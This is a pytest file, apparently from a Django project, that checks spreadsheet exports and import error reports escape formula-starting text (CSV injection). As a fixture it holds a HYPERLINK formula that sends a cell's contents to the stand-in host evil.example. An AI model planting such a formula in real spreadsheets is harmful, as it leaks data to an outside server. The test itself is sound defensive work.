"""Every spreadsheet the system writes keeps text as text: a cell that would start a formula
(``= + - @``, tab, carriage return) is written with a leading apostrophe, in exports, in the
API's exports and in an import's error report (OWASP "CSV Injection")."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from safeserve.common.lib.xlsx import as_text
from safeserve.enterprises.models import ImportJob
from safeserve.enterprises.tests.helpers import (
    HEADERS,
    good_row,
    make_enterprise,
    upload,
    xlsx_bytes,
)
from safeserve.organizations.models import Organization

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'


def _cells(response: Any) -> list[Any]:
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def _assert_no_formula(cells: list[Any], text: str) -> None:
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + text in [cell.value for cell in cells]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("安平县恒丰纺织有限公司", "安平县恒丰纺织有限公司"),
        ("a=1", "a=1"),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_would_start_a_formula_is_kept_as_text(value, written):
    assert as_text(value) == written


def test_the_directory_export_writes_a_formula_name_as_text(places, world, login, api):
    make_enterprise(places, EVIL)
    officer = world["county_officer"]
    _assert_no_formula(_cells(login(officer).get(reverse("enterprises:export"))), EVIL)
    _assert_no_formula(_cells(api(officer).get("/api/v1/enterprises/export/")), EVIL)


def test_a_list_export_writes_a_formula_name_as_text(world, login, api):
    Organization.objects.filter(pk=world["department_officer"].organization_id).update(name=EVIL)
    officer = world["county_officer"]
    _assert_no_formula(_cells(login(officer).get(reverse("organizations:export"))), EVIL)
    _assert_no_formula(_cells(api(officer).get("/api/v1/organizations/export/")), EVIL)


def test_the_import_error_report_echoes_a_formula_as_text(world, login):
    client = login(world["township_officer"])
    workbook = load_workbook(io.BytesIO(xlsx_bytes([good_row(1)])))
    cell = workbook.active.cell(row=2, column=HEADERS.index("行业代码") + 1)
    cell.value, cell.data_type = "=1+1", "s"  # text in the upload, not a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    client.post(reverse("enterprises:import"), {"file": upload(buffer.getvalue())})
    job = ImportJob.objects.latest("pk")
    assert job.errors[0]["value"] == "=1+1"
    cells = _cells(client.get(reverse("enterprises:import_job_report", args=[job.pk])))
    _assert_no_formula(cells, "=1+1")
